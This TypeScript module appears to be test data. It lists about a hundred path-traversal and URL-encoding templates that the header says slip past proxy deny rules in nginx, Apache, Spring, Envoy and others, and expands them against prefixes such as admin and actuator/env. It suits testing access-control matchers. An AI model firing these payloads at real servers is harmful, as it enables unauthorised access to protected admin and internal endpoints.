/**
 * Known ways to reach a denied path past a proxy, from advisories and write-ups of nginx, Apache (CVE-2021-41773, CVE-2021-42013),
 * Tomcat (`..;`), Spring Security (CVE-2016-5007, CVE-2022-22978, CVE-2023-34035), HAProxy (CVE-2021-40346, CVE-2023-45539), Envoy
 * (CVE-2019-9901, CVE-2021-29492), Traefik (CVE-2024-45410, CVE-2025-32431, CVE-2025-47952), Kong, Istio (CVE-2021-31920,
 * CVE-2021-39156), Node.js, oauth2-proxy (GHSA-7rh7-c77v-6434 and those about `skip_auth_regex`), IIS and ASP.NET. Each template
 * reaches DIR on at least one of them.
 */
const TEMPLATES = `
/DIR
/DIR/
/DIR/x
/DIR?x=/public
/DIR?/public
/DIR#/public
/DIR%23/public
/DIR%3F/public
/DIR%3f.css
/DIR;.css
/DIR;/x
/DIR;a=b/x
/DIR%3B.css
/DIR%3b/x
//DIR
///DIR/x
/./DIR
/././DIR/x
/DIR/.
/DIR/./x
/x/../DIR
/x/y/../../DIR
/public/../DIR/x
/public/./../DIR
/public//../DIR
/public/..//DIR
/../DIR
/../../DIR
/..//DIR
/%2e/DIR
/%2E/DIR/x
/%2e%2e/DIR
/x/%2e%2e/DIR
/x/%2E%2E/DIR
/x/.%2e/DIR
/x/%2e./DIR/x
/x/%2E./DIR
/x%2f..%2fDIR
/x/..%2fDIR
/x/..%2FDIR/x
/x%2F../DIR
/x/%2e%2e%2fDIR
/x%2f%2e%2e%2fDIR
/%2fDIR
/%2FDIR/x
/%2f%2fDIR
/DIR%2f
/DIR%2Fx
/x/..;/DIR
/x/..;a=b/DIR
/x/..;/..;/DIR
/public/..;/DIR/x
/;/DIR
/;a=b/DIR
/.;/DIR
/x;/../DIR
/x/;/../../DIR
/..\\DIR
/x\\..\\DIR
/x/..\\DIR
/\\DIR
\\DIR
/x%5c..%5cDIR
/x/..%5cDIR
/x/..%5CDIR/x
/%5cDIR
/%5C..%5CDIR
/DIR%5cx
/DIR%5C
/x%252f..%252fDIR
/x/..%252fDIR
/x/%252e%252e/DIR
/x/%252E%252E/DIR
/x/%252e%252e%252fDIR
/%252fDIR
/DIR%252fx
/x/..%255cDIR
/x/%25252e%25252e/DIR
/x/..%25252fDIR
/DIR%00
/DIR%00.css
/DIR%2500.css
/x/%c0%ae%c0%ae/DIR
/x/..%c0%afDIR
/x/..%ff/../DIR
/DIR%zz
/x/..%u2215DIR
/x/.%%32%65/DIR
/x/..//./DIR
/x/.//../DIR
/DIR//x
/x/%2e%2e;/DIR
/x/..%3b/DIR
/x/..%3Ba=b/DIR
/public%2f..%2f..%2fDIR
/public/%2e%2e//DIR
/x/..%2f%2fDIR
/x/%5c../DIR
/x/..\\/DIR
/x/\\../\\DIR
/x/../DIR;/y
/x/../DIR%2f..%2fDIR
`

/** Prefixes that people deny. Escaping a letter changes nothing. */
const DENIED: readonly (readonly string[])[] = [
  ['admin'],
  ['api', 'admin'],
  ['actuator', 'env'],
  ['internal'],
]

export interface Bypass {
  readonly path: string
  /** The segments that a rule denies, with everything below. */
  readonly denied: readonly string[]
}

/** Each template with each prefix, and with its first letter escaped once and twice. */
export const bypasses: readonly Bypass[] = DENIED.flatMap((denied) =>
  TEMPLATES.trim()
    .split('\n')
    .map((template) => ({ path: template.replaceAll('DIR', denied.join('/')), denied })),
).concat(
  DENIED.flatMap((denied) =>
    ['%', '%25'].flatMap((percent) => {
      const [first = ''] = denied
      const hex = first.charCodeAt(0).toString(16)
      const path = [`${percent}${hex}${first.slice(1)}`, ...denied.slice(1)].join('/')
      return [`/${path}`, `/x/../${path}`, `/x/..%2f${path}`].map((one) => ({ path: one, denied }))
    }),
  ),
)
